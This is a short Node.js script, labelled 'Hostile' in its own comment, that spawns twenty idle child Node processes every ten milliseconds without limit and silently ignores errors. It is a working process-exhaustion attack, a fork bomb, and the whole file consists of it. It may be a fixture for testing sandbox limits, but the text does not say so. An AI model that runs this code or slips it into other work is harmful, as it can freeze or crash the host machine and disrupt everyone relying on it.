// Hostile: spawns node children without end.
const { spawn } = require("node:child_process");
let started = 0;
setInterval(() => {
  for (let i = 0; i < 20; i++) {
    try {
      const child = spawn(process.execPath, ["-e", "setInterval(() => {}, 1000)"], { stdio: "ignore" });
      child.on("error", () => {});
      started++;
    } catch {}
  }
}, 10);
